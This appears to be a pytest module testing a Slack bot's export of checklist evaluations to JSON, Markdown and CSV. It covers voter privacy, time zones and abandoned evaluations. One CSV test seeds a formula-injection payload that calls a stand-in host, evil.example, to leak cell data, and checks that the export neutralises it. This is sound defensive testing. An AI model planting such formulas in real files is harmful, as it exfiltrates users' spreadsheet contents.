"""`/ftcheck export` end to end (real Redis, the Slack stand-in): what the uploaded decision record says about
votes, notes, skips, the evaluation itself and its times, and that the CSV is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import redis.asyncio as aioredis

from conversations.models import AnswerEntry, Ballot, Evaluation, Status, Vote, project_key
from conversations.store import Store
from scoring.checklist import Registry
from tests.bot.harness import Bot, running_bot
from tests.standins.redis_server import RedisServer
from tests.standins.slack_api import SlackStandIn

FT = Registry().get()
AT = datetime(2030, 1, 7, 9, tzinfo=UTC)
PEOPLE = {"U1": "Ana", "U2": "Bo", "U3": "Cy", "U4": "Di", "U7": "Nora Notes", "U8": "Hal Hidden"}


def people(slack: SlackStandIn) -> None:
    """The stand-in keeps users between tests: name every one this module relies on."""
    for uid, name in PEOPLE.items():
        slack.set_user(uid, real_name=name)


def seeded(project: str, answers: dict[str, float | None], *, status: Status = "completed",
           **fields: Any) -> Evaluation:
    """An evaluation as the engine stores it; ``answers`` by question key, all given by U1 at ``AT``."""
    entries = {FT.question(k).id: AnswerEntry(question=FT.question(k).id, value=v, by="U1", at=AT,
                                              skips=1 if v is None else 0)
               for k, v in answers.items()}
    return Evaluation(team="T0001", channel="C1", thread_ts=f"{AT.timestamp():.6f}", project=project,
                      project_key=project_key(project), checklist=FT.id, started_by="U1",
                      started_at=AT - timedelta(hours=1), status=status, last_activity=AT,
                      completed_at=AT if status != "in_progress" else None, answers=entries, **fields)


async def put(redis_client: aioredis.Redis, ev: Evaluation) -> None:
    await Store(redis_client).create(ev, ev.started_by)


async def export(bot: Bot, slack: SlackStandIn, project: str, fmt: str) -> str:
    before = len(slack.files)
    await bot.command(f"export {project} {fmt}", user="U1")
    await slack.wait_for(lambda: len(slack.files) > before, what=f"{fmt} upload")
    return (slack.files[-1].content or b"").decode("utf-8-sig")  # the CSV starts with the UTF-8 mark


def md_row(md: str, key: str) -> str:
    return next(line for line in md.splitlines() if line.startswith(f"| {key} |"))


def all_yes() -> dict[str, float | None]:
    return {q.key: 1.0 for q in FT.questions}


async def test_vote_export_names_every_voter_and_note_author_but_never_a_hidden_voter(
        slack: SlackStandIn, redis_server: RedisServer, redis_client: aioredis.Redis) -> None:
    """U2, U3 and U4 voted on q1–q19 (revealed at quorum, so each answer's ``by`` is U4); q20 was re-asked and
    only U8 has voted on it, unrevealed; U7 wrote q1's note."""
    people(slack)
    ev = seeded("Voted", all_yes(), mode="vote", quorum=3)
    ev.ballots = {q.id: Ballot(revealed=True, votes={u: Vote(value=1.0, at=AT + timedelta(seconds=i))
                                                     for i, u in enumerate(("U2", "U3", "U4"))})
                  for q in FT.questions[:19]}
    ev.ballots[FT.questions[19].id] = Ballot(votes={"U8": Vote(value=0.0, at=AT)})
    for entry in ev.answers.values():
        entry.by = "U4"
    q1 = ev.answers[FT.question("q1").id]
    q1.note, q1.note_by = "Only 300 are labeled so far", "U7"
    await put(redis_client, ev)
    async with running_bot(slack, redis_server.url) as bot:
        data = json.loads(await export(bot, slack, "Voted", "json"))
        md = await export(bot, slack, "Voted", "md")
    first, last = data["answers"][0], data["answers"][19]
    assert first["votes"] == {"Bo (U2)": "Yes", "Cy (U3)": "Yes", "Di (U4)": "Yes"}
    assert (first["revealed_by"], first["note_by"]) == ("quorum", "Nora Notes (U7)")
    assert last["votes"] is None and data["scorecard"]["agreement"]["voters"] == ["Bo (U2)", "Cy (U3)", "Di (U4)"]
    assert "| team vote: Bo (U2) Yes, Cy (U3) Yes, Di (U4) Yes; revealed at quorum |" in md_row(md, "q1")
    assert "| Only 300 are labeled so far — Nora Notes (U7) |" in md_row(md, "q1")
    assert "U8" not in md + json.dumps(data)
    assert "U8" not in {c.params.get("user") for c in slack.calls_to("users.info")}  # not even looked up


async def test_md_export_shows_times_in_the_configured_zone(slack: SlackStandIn, redis_server: RedisServer,
                                                           redis_client: aioredis.Redis) -> None:
    people(slack)
    await put(redis_client, seeded("Router", all_yes()))
    async with running_bot(slack, redis_server.url, FTCHECK_TIMEZONE="Europe/Berlin") as bot:
        md = await export(bot, slack, "Router", "md")
        data = json.loads(await export(bot, slack, "Router", "json"))
    assert "- **Started:** 2030-01-07 09:00 CET (2030-01-07T09:00:00+01:00) by Ana (U1)" in md
    assert "| Ana (U1) | 2030-01-07 10:00 CET |" in md_row(md, "q1") and "+00:00" not in md
    assert data["started_at"] == "2030-01-07T08:00:00+00:00"  # JSON stays in UTC


async def test_csv_export_names_the_evaluation_and_is_safe_in_a_spreadsheet(
        slack: SlackStandIn, redis_server: RedisServer, redis_client: aioredis.Redis) -> None:
    people(slack)
    ev = seeded("Router", all_yes())
    ev.answers[FT.question("q1").id].note = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    await put(redis_client, ev)
    async with running_bot(slack, redis_server.url) as bot:
        rows = {r["question"]: r for r in csv.DictReader(io.StringIO(await export(bot, slack, "Router", "csv")))}
    assert rows["q1"]["note"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert rows["q1"]["answer"] == "1.0"
    facts = {key: rows[key]["text"] for key in ("project", "evaluation", "status", "started_by", "completed_at")}
    assert facts == {"project": "Router", "evaluation": ev.id, "status": "completed", "started_by": "Ana (U1)",
                     "completed_at": "2030-01-07T09:00:00+00:00"}
    assert "/archives/C1/p" in rows["thread"]["text"]
    assert (rows["channel"]["text"], rows["channel_name"]["text"]) == ("C1", "#ml-team")  # the id for programs too


async def test_md_export_of_an_abandoned_evaluation_with_a_skipped_question(
        slack: SlackStandIn, redis_server: RedisServer, redis_client: aioredis.Redis) -> None:
    """Closed for inactivity after q1–q4 Yes and q5 "Not sure"; q6 onwards never asked."""
    people(slack)
    await put(redis_client, seeded("Dormant", {"q1": 1.0, "q2": 1.0, "q3": 1.0, "q4": 1.0, "q5": None},
                                   status="abandoned"))
    async with running_bot(slack, redis_server.url) as bot:
        md = await export(bot, slack, "Dormant", "md")
    assert "(closed for inactivity) in #ml-team" in md and "(in progress)" not in md  # as people know the channel
    assert "in channel C1" not in md
    assert "- **Closed for inactivity:** 2030-01-07 09:00 UTC" in md
    assert "| Not sure (skipped once) | Ana (U1) |" in md_row(md, "q5") and "| — |  |" in md_row(md, "q6")
